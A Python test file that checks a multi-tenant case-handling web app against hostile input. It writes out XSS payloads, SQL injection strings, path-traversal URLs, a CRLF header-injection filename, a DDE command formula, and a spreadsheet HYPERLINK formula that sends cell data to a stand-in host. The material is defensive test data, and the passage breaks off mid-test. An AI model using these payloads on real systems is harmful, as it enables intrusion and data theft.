"""Hostile input (恶意输入): script injection in every text field a user fills, rendered escaped on
the pages that show it; SQL-injection strings in every filter and search box; path traversal on
attachment downloads; oversize bodies and uploads; forms posted without their CSRF token; session
fixation; login throttling; and the security headers on every page.

Everything is written to a tenant of this file's own (shaped like luqiao)."""

from __future__ import annotations

import re
import uuid

import pytest
from markupsafe import escape

from core.cases.tables import Attachment, Case, Company
from core.inspections.tables import Inspection
from core.tables import Session, User
from core.uscc import check_character
from tenants.scope import scoped
from tests.helpers import Browser, in_tenant, process_background, token_for
from tests.sandbox import luqiao_copy

SLUG = "hostile"
T = f"/t/{SLUG}"
COURT = "luqiao-court"  # the court serving luqiao: court mediation's forms are there
XSS = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
RAW = ("<script>alert(", "<img src=x onerror")  # any of the payloads, live
SQL = ("' OR 1=1 --", "1; DROP TABLE case_file", "%' --", '" OR ""="', "1) OR (1=1", "_")
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def xss(field: str) -> str:
    """A script-injection payload naming the field it is typed into."""
    return f'"><img src=x onerror=alert(1)><script>alert("{field}")</script>'


def assert_escaped(html: str, *fields: str, where: str = "") -> None:
    """Each field's payload is on the page, escaped, and no payload is anywhere as markup."""
    for raw in RAW:
        assert raw not in html, (where, raw)
    for field in fields:
        assert str(escape(xss(field))) in html, (where, field, "not shown")


@pytest.fixture(scope="module")
async def tenant():
    return await luqiao_copy(SLUG, demo_cases=200)


async def browser(app, role: str, slug: str = SLUG) -> Browser:
    b = Browser(app)
    response = await b.login(f"{role}@{slug}", slug)
    assert response.status_code == 303, (role, response.status_code)
    return b


async def step(b: Browser, case_id: int, action: str, data: dict | None = None) -> None:
    page = await b.get(f"{T}/cases/{case_id}")
    version = re.search(r'data-version="(\d+)"', page.text).group(1)
    response = await b.post(f"{T}/cases/{case_id}/{action}", {"version": version, **(data or {})}, htmx=True)
    assert response.status_code == 200, (action, response.status_code, response.text[:300])


async def submit(b: Browser, title: str, description: str) -> int:
    await b.get(f"{T}/cases/new")
    response = await b.client.post(f"{T}/cases", data={"_csrf_token": b.csrf, "category": "municipal",
                                                         "title": title, "description": description}, files=[])
    assert response.status_code == 303, response.text[:300]
    return int(response.headers["location"].rsplit("/", 1)[1])


# -- stored and reflected script injection --------------------------------------------------------

async def test_case_texts_refusal_signoffs_and_review_are_escaped(app, tenant):
    company = await browser(app, "company")
    case_id = await submit(company, xss("title"), xss("description"))
    assert_escaped((await company.get(f"{T}/cases/{case_id}")).text, "title", "description", where="case page")
    dispatcher = await browser(app, "dispatcher")
    assert_escaped((await dispatcher.get(f"{T}/cases", params={"q": "onerror title"})).text, "title",
                   where="console")
    await step(dispatcher, case_id, "dispatch", {"department": "zgj", "comment": xss("dispatch comment")})
    handler = await browser(app, "handler")
    await step(handler, case_id, "accept")
    await step(handler, case_id, "refuse", {"reason": xss("refusal reason"), "basis": xss("refusal basis")})
    for level in ("section_head", "leader", "dept_head"):
        signer = await browser(app, level)
        if level == "section_head":
            assert_escaped((await signer.get(f"{T}/signoffs")).text, "title", where="sign-off inbox")
        await step(signer, case_id, "sign", {"comment": xss(f"{level} comment")})
    await step(company, case_id, "request-review", {"reason": xss("review request")})
    reviewer = await browser(app, "reviewer")
    await step(reviewer, case_id, "schedule-hearing", {"hearing_at": "2026-12-01T09:30", "place": xss("place")})
    assert_escaped((await reviewer.get(f"{T}/reviews")).text, "title", "place", where="review docket")
    await step(reviewer, case_id, "rule", {"verdict": "upheld", "reason": xss("verdict reason")})
    shown = ("title", "description", "refusal reason", "refusal basis", "section_head comment", "leader comment",
             "dept_head comment", "place")
    for who in (company, dispatcher, reviewer):
        assert_escaped((await who.get(f"{T}/cases/{case_id}")).text, *shown, where="case page after review")
    assert_escaped((await dispatcher.get(f"{T}/cases/{case_id}")).text, "dispatch comment", "review request",
                   "verdict reason", where="the record")


async def test_reply_rating_comment_and_company_name_are_escaped(app, tenant):
    token = await token_for(f"dispatcher@{SLUG}", SLUG)
    first17 = "91331004" + str(uuid.uuid4().int)[:9]
    registered = await Browser(app).client.post(
        f"{T}/api/v1/companies", json={"credit_code": first17 + check_character(first17), "name": xss("company")},
        headers={"Authorization": f"Bearer {token}"})
    assert registered.status_code in (200, 201), registered.text
    admin = await browser(app, "tenant_admin")
    assert_escaped((await admin.get(f"{T}/companies/", params={"q": "onerror"})).text, "company",
                   where="company registry")
    company = await browser(app, "company")
    case_id = await submit(company, "路灯不亮", "厂门口路灯不亮")
    dispatcher = await browser(app, "dispatcher")
    await step(dispatcher, case_id, "dispatch", {"department": "zgj"})
    handler = await browser(app, "handler")
    await step(handler, case_id, "accept")
    await step(handler, case_id, "resolve", {"reply": xss("reply")})
    await step(company, case_id, "rate", {"rating": "unsatisfied", "comment": xss("rating comment")})
    for who in (company, dispatcher):
        assert_escaped((await who.get(f"{T}/cases/{case_id}")).text, "reply", "rating comment",
                       where="resolved case")


async def test_reflected_input_is_escaped(app, tenant):
    echoed = f'value="{escape(XSS)}"'  # the box keeps what was typed, as text
    dispatcher = await browser(app, "dispatcher")
    for params in ({"q": XSS}, {"q": XSS, "status": XSS, "department": XSS, "category": XSS, "sort": XSS}):
        for headers in ({}, {"HX-Request": "true"}):
            page = await dispatcher.client.get(f"{T}/cases", params=params, headers=headers)
            assert page.status_code == 200 and all(raw not in page.text for raw in RAW), (params, headers)
        page = await dispatcher.client.get(f"{T}/cases", params=params)
        assert echoed in page.text, params
    admin = await browser(app, "tenant_admin")
    page = await admin.client.get(f"{T}/companies/", params={"q": XSS})
    assert echoed in page.text and all(raw not in page.text for raw in RAW)
    anonymous = Browser(app)
    page = await anonymous.client.get(f"{T}/login", params={"next": XSS})
    assert echoed in page.text and all(raw not in page.text for raw in RAW)
    await anonymous.get(f"{T}/login")
    failed = await anonymous.post(f"{T}/login", {"username": XSS, "password": "wrong"})
    assert failed.status_code in (400, 401) and echoed in failed.text and all(raw not in failed.text for raw in RAW)
    # A page that is not found echoes nothing of the path as markup.
    missing = await dispatcher.client.get(f"{T}/nowhere/{XSS}")
    assert missing.status_code == 404 and all(raw not in missing.text for raw in RAW)


async def test_javascript_urls_are_never_links_or_redirects(app, tenant):
    for target in ("javascript:alert(1)", "JavaScript:alert(1)", "//evil.example/", "https://evil.example/"):
        b = Browser(app)
        await b.get(f"{T}/login")
        response = await b.post(f"{T}/login", {"username": f"dispatcher@{SLUG}", "password": "demo-Pass-2026",
                                               "next": target})
        assert response.status_code == 303 and response.headers["location"] == f"{T}/", target
        response = await b.client.get(f"{T}/lang/en", params={"next": target})
        assert response.headers["location"] == f"{T}/", target
    # Open311's media_url is the one URL a submitter gives that a page links to: http(s) only.
    token = await token_for(f"dispatcher@{SLUG}", SLUG)
    form = {"api_key": token, "service_code": "municipal", "address_string": "路桥街道"}
    client = Browser(app).client
    for url in ("javascript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "vbscript:x", "http:/no-host"):
        response = await client.post(f"{T}/open311/v2/requests.json", data={**form, "media_url": url})
        assert response.status_code == 400, url
    response = await client.post(f"{T}/open311/v2/requests.json", data={**form, "media_url": "https://example.org/a.png"})
    case_id = response.json()[0]["service_request_id"]
    page = (await (await browser(app, "dispatcher")).get(f"{T}/cases/{case_id}")).text
    assert 'href="https://example.org/a.png"' in page and "javascript:" not in page


async def test_token_and_display_names_are_escaped(app, tenant):
    handler = await browser(app, "handler")
    await handler.get(f"{T}/profile/")
    created = await handler.post(f"{T}/profile/tokens", {"name": xss("token")}, htmx=True)
    assert created.status_code in (200, 201), created.text[:300]
    assert_escaped(created.text, "token", where="new token")
    assert_escaped((await handler.get(f"{T}/profile/")).text, "token", where="token list")
    # A display name comes from the tenant's manifest; it is shown escaped in the header and on
    # the record of every step the user takes.
    from tenants.onboarding import ensure_membership, ensure_user

    async with in_tenant(SLUG):
        user_id, _ = await ensure_user(f"xss-dispatcher@{SLUG}", xss("display name"), "demo-Pass-2026")
        await ensure_membership(user_id, "dispatcher", None, None)
    shown = await browser(app, "xss-dispatcher")
    assert_escaped((await shown.get(f"{T}/")).text, "display name", where="header")
    company = await browser(app, "company")
    case_id = await submit(company, "排污口异味", "请核查")
    await step(shown, case_id, "escalate", {"reason": "急"})
    assert_escaped((await company.get(f"{T}/cases/{case_id}")).text, "display name", where="timeline actor")


async def test_catalogue_names_are_escaped(app, tenant):
    admin = await browser(app, "tenant_admin")
    await admin.get(f"{T}/admin/catalogue/")
    response = await admin.post(f"{T}/admin/catalogue/departments", {
        "code": "xssdept", "name_zh": xss("department"), "name_en": xss("department en")})
    assert response.status_code in (200, 303), response.text[:300]
    response = await admin.post(f"{T}/admin/catalogue/categories", {
        "code": "xsscat", "name_zh": xss("category"), "name_en": xss("category en"), "lead": "zgj",
        "deadline_days": "5", "active": "1"})
    assert response.status_code in (200, 303), response.text[:300]
    assert_escaped((await admin.get(f"{T}/admin/catalogue/")).text, "department", "category", where="catalogue")
    company = await browser(app, "company")
    assert_escaped((await company.get(f"{T}/cases/new")).text, "category", where="category choice")
    english = await browser(app, "dispatcher")
    await english.client.get(f"{T}/lang/en")
    assert_escaped((await english.get(f"{T}/cases")).text, "department en", "category en", where="filters, English")


async def test_module_forms_are_escaped(app, tenant):
    async with in_tenant(SLUG):
        any_case = await scoped(Case).select(Case.id).first()
    async with in_tenant(COURT):  # mediation runs at the court, a tenant of its own
        court_code = (await scoped(Company).select(Company.credit_code).order_by(Company.id).first())["credit_code"]
    judge = await browser(app, "mediation_judge", COURT)
    await judge.get(f"/t/{COURT}/mediation/new")
    response = await judge.post(f"/t/{COURT}/mediation/disputes", {
        "title": xss("dispute"), "creditor": xss("creditor"), "debtor": court_code, "principal": "1000",
        "interest": "0", "costs": "0", "court": xss("court"), "guarantors": xss("guarantor")})
    assert response.status_code == 303, response.text[:500]
    dispute = response.headers["location"]
    page = await judge.get(dispute)
    version = re.search(r'name="version" value="(\d+)"', page.text).group(1)
    response = await judge.post(f"{dispute}/session", {
        "version": version, "held_at": "2026-03-02T09:00", "place": xss("session place"),
        "participants": xss("participants"), "minutes": xss("minutes"), "outcome": "continued",
        "video_link": xss("video link")})
    assert response.status_code in (200, 303), response.text[:500]
    assert_escaped((await judge.get(dispute)).text, "dispute", "creditor", "court", "guarantor", "session place",
                   "participants", "minutes", where="dispute")
    assert_escaped((await judge.get(f"/t/{COURT}/mediation/")).text, "dispute", where="disputes list")

    assistant = await browser(app, "liaison_assistant")  # works with the companies paired to them
    own = re.search(r'liaison/companies/(\d+)"', (await assistant.get(f"{T}/liaison/")).text).group(1)
    base = f"{T}/liaison/companies/{own}"
    await assistant.get(base)
    for url, form in ((f"{base}/needs", {"title": xss("need"), "description": xss("need text"), "channel": "visit"}),
                      (f"{base}/visits", {"visited_on": "2026-03-02", "kind": "visit", "people": xss("people"),
                                          "topics": xss("topics"), "follow_up": xss("follow-up"),
                                          "follow_up_due": "2026-03-09"})):
        response = await assistant.post(url, form)
        assert response.status_code == 303, (url, response.status_code, response.text[:500])
    assert_escaped((await assistant.get(base)).text, "need", "people", "topics", "follow-up",
                   where="liaison company")
    coordinator = await browser(app, "liaison_coordinator")
    await coordinator.get(f"{T}/liaison/salons")
    response = await coordinator.post(f"{T}/liaison/salons", {
        "topic": xss("salon"), "held_on": "2026-03-20", "place": xss("salon place"), "speakers": xss("speakers"),
        "audience": xss("audience")})
    assert response.status_code == 303, (response.status_code, response.text[:500])
    assert_escaped((await coordinator.get(response.headers["location"])).text, "salon", "salon place",
                   "speakers", where="salon")
    assert_escaped((await coordinator.get(f"{T}/liaison/salons")).text, "salon", where="salons")

    org = await browser(app, "cadre_org")
    await org.get(f"{T}/cadre/")
    response = await org.post(f"{T}/cadre/campaigns", {"title": xss("campaign"), "theme": xss("theme"),
                                                        "period_start": "2026-01-01", "period_end": "2026-06-30"})
    assert response.status_code == 303, response.text[:500]
    assert_escaped((await org.get(response.headers["location"])).text, "campaign", where="campaign")
    cadre = await browser(app, "cadre")
    await cadre.get(f"{T}/cadre/applications")
    response = await cadre.post(f"{T}/cadre/applications", {
        "mistake": xss("mistake"), "circumstances": xss("circumstances"), "case": str(any_case["id"])})
    assert response.status_code == 303, response.text[:500]
    assert_escaped((await org.get(response.headers["location"])).text, "mistake", "circumstances",
                   where="fault-tolerance application")

    reporter = await browser(app, "company")
    await reporter.get(f"{T}/inspections/report")
    response = await reporter.post(f"{T}/inspections/report", {"kind": "gifts", "description": xss("report")})
    assert response.status_code in (200, 303), response.text[:500]
    await process_background()  # the rules look at the report and open an inspection
    async with in_tenant(SLUG):
        newest = await scoped(Inspection).select(Inspection.id).order_by(Inspection.id, ascending=False).first()
    inspector = await browser(app, "inspector")
    assert_escaped((await inspector.get(f"{T}/inspections/{newest['id']}")).text, "report", where="inspection")


# -- SQL injection --------------------------------------------------------------------------------

async def test_sql_injection_strings_in_filters_and_search_are_plain_text(app, tenant):
    token = await token_for(f"dispatcher@{SLUG}", SLUG)
    auth = {"Authorization": f"Bearer {token}"}
    dispatcher = await browser(app, "dispatcher")
    admin = await browser(app, "tenant_admin")
    async with in_tenant(SLUG):
        before = (await scoped(Case).count(), await scoped(Company).count())
    client = dispatcher.client

    async def api_items(url: str, params: dict) -> list:
        response = await client.get(url, params=params, headers=auth)
        assert response.status_code in (200, 400), (url, params, response.status_code)
        body = response.json() if response.status_code == 200 else []
        return body["items"] if isinstance(body, dict) else body

    def case_ids(html: str) -> list[str]:
        return re.findall(r'href="[^"]*/cases/(\d+)"', html)

    for bad in SQL:
        # Search finds nothing: no case or company contains these strings.
        assert await api_items(f"{T}/api/v1/cases", {"q": bad}) == [], bad
        assert await api_items(f"{T}/api/v1/companies", {"q": bad}) == [], bad
        page = await dispatcher.get(f"{T}/cases", params={"q": bad})
        assert page.status_code == 200 and case_ids(page.text) == [], bad
        page = await admin.get(f"{T}/companies/", params={"q": bad})
        assert page.status_code == 200 and "<td><code>" not in page.text, bad
        # A filter with an injection string answers like one with any other unknown value.
        for name in ("status", "department", "category", "sort"):
            unknown = await api_items(f"{T}/api/v1/cases", {name: "zz-unknown"})
            assert await api_items(f"{T}/api/v1/cases", {name: bad}) == unknown, (name, bad)
            page = await dispatcher.get(f"{T}/cases", params={name: bad})
            benign = await dispatcher.get(f"{T}/cases", params={name: "zz-unknown"})
            assert page.status_code == 200 and case_ids(page.text) == case_ids(benign.text), (name, bad)
        for url, name in ((f"{T}/api/v1/mediation/disputes", "status"), (f"{T}/api/v1/inspections", "status"),
                          (f"{T}/api/v1/inspections", "rule")):
            unknown = await client.get(url, params={name: "zz-unknown"}, headers=auth)
            response = await client.get(url, params={name: bad}, headers=auth)
            assert response.status_code == unknown.status_code and response.json() == unknown.json(), (url, bad)
        for path in ("requests.json", "services.json"):
            response = await client.get(f"{T}/open311/v2/{path}", params={"service_code": bad, "status": bad})
            assert response.status_code in (200, 400) and isinstance(response.json(), list), (path, bad)
    async with in_tenant(SLUG):
        assert (await scoped(Case).count(), await scoped(Company).count()) == before
    assert (await client.get(f"{T}/api/v1/cases", headers=auth)).json()["total"] == before[0]


# -- path traversal -------------------------------------------------------------------------------

async def test_attachment_downloads_resist_path_traversal(app, tenant):
    company = await browser(app, "company")
    await company.get(f"{T}/cases/new")
    response = await company.client.post(f"{T}/cases", data={
        "_csrf_token": company.csrf, "category": "municipal", "title": "附件测试", "description": "见附件"},
        files=[("files", ("../../../../etc/passwd.pdf", PDF, "application/pdf"))])
    assert response.status_code == 303
    case_id = int(response.headers["location"].rsplit("/", 1)[1])
    async with in_tenant(SLUG):
        row = await scoped(Attachment).select().where(Attachment.case == case_id).first()
    assert row["filename"] == "passwd.pdf" and "/" not in row["storage_key"] and ".." not in row["storage_key"]
    good = await company.client.get(f"{T}/cases/{case_id}/attachments/{row['id']}")
    assert good.status_code == 200 and good.content == PDF
    assert "passwd.pdf" in good.headers["content-disposition"] and "/" not in good.headers["content-disposition"]
    # Another tenant's attachment, through this tenant's case.
    async with in_tenant("luqiao"):
        other = await scoped(Attachment).select(Attachment.id, Attachment.case).first()
    attempts = [f"{T}/cases/{case_id}/attachments/../../../../etc/passwd",
                f"{T}/cases/{case_id}/attachments/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                f"{T}/cases/{case_id}/attachments/..%2f..%2f..%2fvar%2fsecret_key",
                f"{T}/cases/{case_id}/attachments//etc/passwd",
                f"{T}/cases/{case_id}/attachments/{row['storage_key']}",
                f"{T}/cases/{case_id}/attachments/-1",
                "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                "/static/..%2f..%2f..%2fcore%2fconfig.py"]
    if other:
        attempts += [f"{T}/cases/{case_id}/attachments/{other['id']}",
                     f"{T}/cases/{other['case']}/attachments/{other['id']}"]
    for url in attempts:
        response = await company.client.get(url)
        assert response.status_code in (400, 404), (url, response.status_code)
        assert b"root:" not in response.content and b"SECRET" not in response.content and PDF not in response.content


# -- oversize bodies and uploads ------------------------------------------------------------------

async def test_oversize_bodies_and_uploads_are_413_with_a_translated_message(app, tenant):
    from core.config import get_settings
    from core.filetypes import MAX_ATTACHMENT_BYTES

    limit = get_settings().max_body_bytes
    company = await browser(app, "company")
    async with in_tenant(SLUG):
        before = await scoped(Case).count()
    await company.get(f"{T}/cases/new")
    big = b"%PDF-1.4\n" + b"0" * (MAX_ATTACHMENT_BYTES + 10)
    response = await company.client.post(f"{T}/cases", data={
        "_csrf_token": company.csrf, "category": "municipal", "title": "大附件", "description": "见附件"},
        files=[("files", ("big.pdf", big, "application/pdf"))])
    assert response.status_code == 413 and "text/html" in response.headers["content-type"]
    assert "过大" in response.text or "超过" in response.text, response.text[:500]
    response = await company.client.post(f"{T}/cases", data={"_csrf_token": company.csrf, "title": "x" * (limit + 1)})
    assert response.status_code == 413 and ("过大" in response.text or "超过" in response.text)
    token = await token_for(f"company@{SLUG}", SLUG)
    response = await company.client.post(f"{T}/api/v1/cases", content=b'{"title": "' + b"x" * (limit + 1) + b'"}',
                                         headers={"Authorization": f"Bearer {token}",
                                                  "Content-Type": "application/json"})
    assert response.status_code == 413 and response.json()["code"] == "too_large"
    assert response.json()["message"] != "The request is too large."  # translated (zh-CN by default)
    async with in_tenant(SLUG):
        assert await scoped(Case).count() == before


# -- CSRF -----------------------------------------------------------------------------------------

def _state_changing_form_routes(app):
    from litestar.routes import HTTPRoute

    for route in app.app.routes:
        if not isinstance(route, HTTPRoute):
            continue
        for method, (handler, _) in route.route_handler_map.items():
            if method in ("POST", "PUT", "PATCH", "DELETE") and not handler.opt.get("api"):
                yield route.path, method, handler


async def test_every_state_changing_form_refuses_a_request_without_its_csrf_token(app, tenant):
    from tests.test_isolation import PARAM, PLAIN
    from web.csrf import csrf_config_of

    csrf = csrf_config_of(app)
    # Only the bearer-token API and the keyed Open311 endpoints are exempt.
    assert sorted(csrf.exclude) == sorted([r"/t/[^/]+/api/", r"^(/t/[^/]+)?/open311/v2/"])
    exempt = [re.compile(p) for p in csrf.exclude]
    admin = await browser(app, "tenant_admin")
    walked = 0
    async with in_tenant(SLUG):
        counts = {t: await scoped(t).count() for t in (Case, Company, Attachment)}
        sessions = await Session.count()
    # A module this tenant has not enabled answers 404 to everything (tested in test_isolation).
    import json

    from core.plugins import get_plugin_manager
    from tenants.tables import Tenant

    row = await Tenant.select(Tenant.plugins).where(Tenant.slug == SLUG).first()
    disabled = set(get_plugin_manager().optional_names()) - set(json.loads(row["plugins"]))
    for path, method, handler in _state_changing_form_routes(app):
        # The token is checked before anything else, so any value of a path parameter will do.
        url = PARAM.sub(lambda m: SLUG if m.group(1) == "tenant" else PLAIN.get(m.group(1), "1"), path)
        if any(p.search(url) for p in exempt) or url.split("/")[3:4] and url.split("/")[3] in disabled:
            continue
        for headers, data in (({}, {"name": "x"}), ({"X-CSRFToken": "forged"}, {"_csrf_token": "forged"}),
                              ({"HX-Request": "true"}, {})):
            response = await admin.client.request(method, url, data=data, headers=headers)
            assert response.status_code == 403, (method, url, headers, response.status_code)
        walked += 1
    assert walked >= 40
    async with in_tenant(SLUG):
        assert {t: await scoped(t).count() for t in (Case, Company, Attachment)} == counts
        assert await Session.count() == sessions
    # The refusal is the translated page, not a stack trace.
    response = await admin.client.post(f"{T}/logout")
    assert response.status_code == 403 and "安全令牌" in response.text and "Traceback" not in response.text


# -- sessions and logins --------------------------------------------------------------------------

async def test_a_preset_session_cookie_is_not_adopted_at_login(app, tenant):
    cookie = f"qqs_{SLUG}"
    b = Browser(app)
    b.client.cookies.set(cookie, "attacker-chosen-session-id", domain="testserver", path="/")
    response = await b.login(f"dispatcher@{SLUG}", SLUG)
    assert response.status_code == 303
    issued = response.cookies.get(cookie)
    assert issued and issued != "attacker-chosen-session-id"
    attacker = Browser(app)
    attacker.client.cookies.set(cookie, "attacker-chosen-session-id", domain="testserver", path="/")
    page = await attacker.client.get(f"{T}/cases")
    assert page.status_code == 303 and "/login" in page.headers["location"]
    # Logging in again, while logged in, issues yet another session id.
    again = await b.login(f"dispatcher@{SLUG}", SLUG)
    assert again.cookies.get(cookie) not in (None, issued)
    async with in_tenant(SLUG):
        user = await User.select(User.id).where(User.username == f"dispatcher@{SLUG}").first()
        keys = await Session.count().where(Session.user == user["id"])
    assert keys >= 2


async def test_failed_logins_lock_the_account(app, tenant):
    from tenants.onboarding import ensure_membership, ensure_user

    async with in_tenant(SLUG):
        user_id, _ = await ensure_user(f"throttle@{SLUG}", "限流测试", "demo-Pass-2026")
        await ensure_membership(user_id, "handler", None, None)
    b = Browser(app)
    statuses = [(await b.login(f"throttle@{SLUG}", SLUG, password="wrong-password")).status_code for _ in range(6)]
    locked = await b.login(f"throttle@{SLUG}", SLUG)  # even with the right password
    assert statuses[-1] == 429 and locked.status_code == 429 and "账号已锁定" in locked.text


# -- security headers -----------------------------------------------------------------------------

async def test_every_page_carries_the_security_headers(app, tenant):
    from litestar.routes import HTTPRoute

    from tests.test_isolation import PARAM, PLAIN, RESOURCES

    ids = await _one_of_each(RESOURCES)
    dispatcher = await browser(app, "dispatcher")
    checked = 0
    for route in app.app.routes:
        if not isinstance(route, HTTPRoute) or "GET" not in route.route_handler_map:
            continue
        handler, _ = route.route_handler_map["GET"]
        if handler.opt.get("no_transaction"):  # the server-sent event stream never ends
            continue
        url = PARAM.sub(lambda m: str(ids.get(m.group(1), PLAIN.get(m.group(1), 1))),
                        route.path.replace("{tenant:str}", SLUG).replace("{file_path:path}", "app.css"))
        response = await dispatcher.client.get(url)
        headers = response.headers
        assert "script-src 'self'" in headers.get("content-security-policy", ""), url
        assert "frame-ancestors 'none'" in headers["content-security-policy"] or "sandbox" in headers[
            "content-security-policy"], url
        assert headers.get("x-frame-options") == "DENY", url
        assert headers.get("x-content-type-options") == "nosniff", url
        assert headers.get("referrer-policy"), url
        checked += 1
    assert checked >= 40


async def _one_of_each(resources: dict) -> dict:
    ids = {}
    async with in_tenant(SLUG):
        for name, table in resources.items():
            row = await scoped(table).select(table.id).first()
            if row:
                ids[name] = row["id"]
    return ids


# -- malformed input answers 4xx, never 500 -------------------------------------------------------

def _nested_json(depth: int) -> bytes:
    return b'{"title": "t", "description": ' + b"[" * depth + b"]" * depth + b"}"


async def test_malformed_json_bodies_are_400_with_the_standard_body_and_store_nothing(app, tenant):
    token = await token_for(f"company@{SLUG}", SLUG)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    bodies = [b'{"title":"\xff\xfe"}', b'{"title": "t", "description": "\xed\xa0\x80"}', _nested_json(1_000),
              b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 5_000 + b"1" + b"}" * 5_000]
    async with in_tenant(SLUG):
        before = await scoped(Case).count()
        case_id = (await scoped(Case).select(Case.id).first())["id"]
    client = (await browser(app, "company")).client
    for lang, message in (("zh_CN", "请求无效。"), ("en", "The request is not valid.")):
        client.cookies.set("lang", lang)
        for url in (f"{T}/api/v1/cases", f"{T}/api/v1/cases/{case_id}/rate"):
            for body in bodies:
                response = await client.post(url, content=body, headers=headers)
                assert response.status_code == 400, (url, body[:20], response.status_code)
                assert response.json() == {"code": "bad_request", "message": message, "details": []}, body[:20]
    async with in_tenant(SLUG):
        assert await scoped(Case).count() == before


async def test_a_deeply_nested_manifest_is_refused_with_its_problem_listed(app, tenant):
    from core.tables import OnboardingJob
    from tests.test_system_console import console, upload

    b = await console(app)
    before = await OnboardingJob.count()
    for text in ("x = " + "[" * 5_000 + "]" * 5_000, "x = " + "{a = " * 5_000 + "1" + "}" * 5_000):
        for action in ("validate", "apply"):
            for as_file in (True, False):
                response = await upload(b, action, text, as_file=as_file)
                assert response.status_code == 400, (text[:10], action, as_file, response.status_code)
                assert "data-problems" in response.text and "嵌套" in response.text, response.text[:500]
    assert await OnboardingJob.count() == before


async def test_a_deeply_nested_calendar_file_is_refused():
    from core.workdays import CalendarFileError, parse_overrides

    with pytest.raises(CalendarFileError):
        parse_overrides("holidays = " + "[" * 5_000 + "]" * 5_000)


async def test_every_page_asked_for_its_htmx_fragment_by_any_role_answers_below_500(app, tenant):
    from litestar.routes import HTTPRoute

    from tests.test_isolation import PARAM, PLAIN, RESOURCES

    ids = await _one_of_each(RESOURCES)
    urls = []
    for route in app.app.routes:
        if not isinstance(route, HTTPRoute) or "GET" not in route.route_handler_map:
            continue
        handler, _ = route.route_handler_map["GET"]
        if handler.opt.get("no_transaction") or not route.path.startswith("/t/{tenant"):
            continue
        urls.append(PARAM.sub(lambda m: str(ids.get(m.group(1), PLAIN.get(m.group(1), 1))),
                              route.path.replace("{tenant:str}", SLUG)))
    assert f"{T}/mediation/" in urls or f"{T}/mediation" in urls
    for role in ("dispatcher", "company", "handler"):
        user = await browser(app, role)
        for url in urls:
            response = await user.client.get(url, headers={"HX-Request": "true"})
            assert response.status_code < 500, (role, url, response.status_code)
    dispatcher = await browser(app, "dispatcher")
    response = await dispatcher.client.get(f"{T}/mediation/", headers={"HX-Request": "true"})
    assert response.status_code == 403 and "您无权执行此操作" in response.text


async def test_an_attachment_name_with_line_breaks_is_cleaned_on_upload_and_encoded_on_download(app, tenant):
    company = await browser(app, "company")
    await company.get(f"{T}/cases/new")
    evil = 'evil\r\nX-Injected: yes\r\n\r\n<b>"报告".pdf'
    response = await company.client.post(f"{T}/cases", data={
        "_csrf_token": company.csrf, "category": "municipal", "title": "换行附件", "description": "见附件"},
        files=[("files", (evil, PDF, "application/pdf"))])
    assert response.status_code == 303, response.text[:300]
    case_id = int(response.headers["location"].rsplit("/", 1)[1])
    async with in_tenant(SLUG):
        row = await scoped(Attachment).select().where(Attachment.case == case_id).first()
        assert not any(ch in row["filename"] for ch in "\r\n\x00") and row["filename"].endswith(".pdf")
        # A name stored before names were cleaned is still served safely.
        await scoped(Attachment).update({Attachment.filename: evil}).where(Attachment.id == row["id"])
    download = await company.client.get(f"{T}/cases/{case_id}/attachments/{row['id']}")
    assert download.status_code == 200 and download.content == PDF
    disposition = download.headers["content-disposition"]
    assert "x-injected" not in download.headers
    assert not any(ch in disposition for ch in "\r\n\x00"), disposition
    assert disposition.startswith("attachment; filename=\"") and "filename*=utf-8''" in disposition
    assert "%0D%0A" in disposition and "%E6%8A%A5%E5%91%8A" in disposition  # RFC 5987, nothing lost


# -- formula injection in exports -----------------------------------------------------------------

# A leading tab or CR is trimmed from a title as it is typed; the helper's own test covers those.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击查看")', "+1+1 公式", "-2+3 公式", "@SUM(1) 公式",
            "=cmd|' /C calc'!A0 公式"]


def _xlsx_rows(content: bytes) -> list[list]:
    """Every row of each sheet, as openpyxl cells read back from the file."""
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


def test_the_export_cell_helper_neutralises_formulas_and_keeps_numbers():
    import io

    from openpyxl import Workbook

    from core.export_cells import csv_value, xlsx_row

    assert [csv_value(v) for v in ("=1+1", "+1", "-1", "@A1", "\t1", "\r1", "a=1", "", None, -5, -2.5, 0)] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t1", "'\r1", "a=1", "", None, -5, -2.5, 0]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_row(sheet, ["=1+1", "-1", "\x01=2+2", "\t=3", "\r=4", "plain", -5, -2.5]))
    buf = io.BytesIO()
    book.save(buf)
    cells = _xlsx_rows(buf.getvalue())[0]
    assert [c.value for c in cells] == ["=1+1", "-1", "=2+2", "\t=3", "\n=4", "plain", -5, -2.5]  # XML reads CR as LF
    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "n"]


async def test_exports_write_formula_like_text_as_text(app, tenant):
    import csv
    import io

    company = await browser(app, "company")
    for title in FORMULAS:
        await submit(company, title, "导出公式注入测试")
    dispatcher = await browser(app, "dispatcher")
    xlsx = await dispatcher.client.get(f"{T}/exports/cases.xlsx", params={"q": "公式"})
    assert xlsx.status_code == 200
    rows = [r for r in _xlsx_rows(xlsx.content)[1:] if r[1].value in FORMULAS]
    assert sorted(r[1].value for r in rows) == sorted(FORMULAS)
    for row in rows:
        assert row[1].data_type == "s", row[1].value  # a formula cell reads back as "f"
        assert row[10].value == "否"  # 不能办 is yes/no; plain text is left as it is
    exported = await dispatcher.client.get(f"{T}/exports/cases.csv", params={"q": "公式"})
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))[1:]
    assert sorted(line[1] for line in lines) == sorted("'" + t for t in FORMULAS)
    assert all(line[10] == "否" for line in lines)
    # Mediation's docket export: the creditor is typed by the court.
    court = await browser(app, "mediation_court", COURT)
    async with in_tenant(COURT):
        code = (await scoped(Company).select(Company.credit_code).first())["credit_code"]
